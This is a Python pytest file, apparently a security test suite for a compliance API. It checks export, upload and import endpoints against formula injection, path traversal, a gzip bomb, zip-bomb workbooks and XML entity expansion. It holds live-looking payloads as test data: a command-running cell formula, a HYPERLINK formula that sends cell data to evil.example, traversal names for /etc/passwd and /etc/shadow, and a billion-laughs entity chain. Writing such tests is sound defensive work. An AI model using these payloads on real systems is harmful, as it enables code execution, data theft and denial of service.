# SPDX-License-Identifier: Apache-2.0
"""What is harmless here and harmful elsewhere, or grows when it is read: formulas in exports, names of files, packed bodies, workbooks."""
import csv
import gzip
import io
import json
import time
import zipfile

import pytest
from harness.client import multipart

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Each would run in a spreadsheet that reads it as a formula; the last two begin with what some take away first.
FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "=HYPERLINK(\"http://evil.example/?\"&A1)", "\t=1+1", "\r=1+1"]
EXPORTED = {
    "/api/v1/controls": ("title", "/api/v1/controls/export"),
    "/api/v1/risks": ("title", "/api/v1/risks/export"),
    "/api/v1/evidence": ("title", "/api/v1/evidence/export"),
}
TENANT = "hostile"


@pytest.fixture(scope="module")
def admin(world):
    world.builder.user = world.tenant(TENANT).admin.subject
    return world.api("compliance_admin", TENANT)


def made(world, admin, path: str, **members) -> dict:
    """The smallest record of the list at `path` with these members."""
    body = world.builder.smallest(world.document.find("POST", path).body_schema())
    reply = admin.post(path, {**body, **members})
    assert reply.status == 201, reply
    return reply.json


@pytest.mark.parametrize("path", EXPORTED)
def test_an_exported_sheet_runs_nothing(world, admin, path):
    member, export = EXPORTED[path]
    kept = {made(world, admin, path, **{member: text})[member] for text in FORMULAS[:5]}
    assert kept == set(FORMULAS[:5]), "what was written is what was meant"
    reply = admin.get(export + "?format=csv")
    assert reply.status == 200 and reply.headers["content-disposition"].startswith("attachment"), reply
    cells = [cell for row in csv.reader(io.StringIO(reply.content.decode("utf-8-sig"))) for cell in row]
    assert {"'" + text for text in kept} <= set(cells), "the texts are there, and texts"
    assert not [cell for cell in cells if cell[:1] in "=+-@\t\r" and cell and not is_number(cell)]
    book = zipfile.ZipFile(io.BytesIO(admin.get(export + "?format=xlsx").content))
    sheets = b"".join(book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/"))
    assert b"<f>" not in sheets and b"<f " not in sheets
    assert any(FORMULAS[0].split("|")[0].encode() in book.read(name) for name in book.namelist()), "the workbook holds the texts"


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("name", ["../../etc/passwd", "..\\..\\boot.ini", "/etc/shadow", "a\\u0000b.txt", "x/../../y", "CON:", "%2e%2e%2fetc", "\u202etxt.exe"])
def test_a_files_name_leads_nowhere(server, admin, name):
    content, kind = multipart(name.replace("\\u0000", "\0"), "text/plain", b"words of " + repr(name).encode())
    reply = admin("POST", "/api/v1/platform/files", content=content, headers={"Content-Type": kind})
    assert reply.status in (200, 201, 400, 422), reply
    if reply.status in (200, 201):
        stored = reply.json["name"]
        assert not set(stored) & set("/\\\0\u202e") and stored not in (".", ".."), stored
    outside = [one for one in server.folder.rglob("*") if one.name in ("passwd", "boot.ini", "shadow", "y", "CON:", "etc")]
    assert not outside, "names are no paths of the disk"


def test_a_packed_body_is_not_unpacked(admin):
    bomb = gzip.compress(json.dumps({"name": "x" * 200_000_000}).encode(), 1)
    for coding in ("gzip", "deflate", "br", "gzip, gzip"):
        begun = time.monotonic()
        reply = admin("POST", "/api/v1/controls", content=bomb, headers={"Content-Type": "application/json", "Content-Encoding": coding})
        assert reply.status == 415 and time.monotonic() - begun < 2, reply
    plain = admin("POST", "/api/v1/controls", content=b"{}", headers={"Content-Type": "application/json", "Content-Encoding": "identity"})
    assert plain.status == 422, plain


def workbook(sheet: str, texts: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        book.writestr("xl/worksheets/sheet1.xml", f"<worksheet><sheetData>{sheet}</sheetData></worksheet>")
        book.writestr("xl/sharedStrings.xml", f"<sst>{texts}</sst>")
    return out.getvalue()


HEADING = '<row><c t="str"><v>Key</v></c></row>'
ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi")) + "]>"


@pytest.mark.parametrize(
    "book, statuses",
    [
        (lambda: workbook(HEADING + '<row><c t="s"><v>0</v></c></row>' * 90_000, "<si><t>" + "x" * 500_000 + "</t></si>"), {413}),
        (lambda: workbook(HEADING + '<row><c t="s"><v>0</v></c></row>', "<si><t>" + "_x0041_" * 4_000_000 + "</t></si>"), {400, 413, 422}),
        (lambda: workbook(HEADING, "<si/>" * 5_000_000), {413}),
        (lambda: workbook(HEADING + '<row r="1000000000"><c r="XFD1" t="str"><v>a</v></c></row>', ""), {413}),
        (lambda: workbook(HEADING + "0" * 160_000_000, ""), {413}),
        (lambda: workbook(HEADING + '<row><c t="s"><v>7</v></c></row>', ""), {400}),
        (lambda: workbook(HEADING, "").replace(b"sheet1.xml", b"sheet\xff.xml"), {400}),
        (lambda: b"PK\x03\x04" + b"\0" * 500, {400}),
    ],
    ids=["one_text_many_cells", "escapes", "empty_texts", "far_cell", "unpacks_to_much", "no_such_text", "damaged_name", "no_archive"],
)
def test_a_workbook_is_read_within_bounds_or_refused(admin, book, statuses):
    content, kind = multipart("book.xlsx", XLSX, book())
    begun = time.monotonic()
    reply = admin("POST", "/api/v1/controls/import", content=content, headers={"Content-Type": kind})
    assert reply.status in statuses, reply
    assert time.monotonic() - begun < 10
    assert admin.get("/api/v1/platform/health").status == 200


def test_entities_of_a_workbook_do_not_grow(admin):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as book:
        book.writestr("xl/worksheets/sheet1.xml", ENTITIES + '<worksheet><sheetData><row><c t="str"><v>&i;</v></c></row></sheetData></worksheet>')
    content, kind = multipart("book.xlsx", XLSX, out.getvalue())
    reply = admin("POST", "/api/v1/controls/import", content=content, headers={"Content-Type": kind})
    assert reply.status == 400 and "document type" in reply.json["detail"], reply
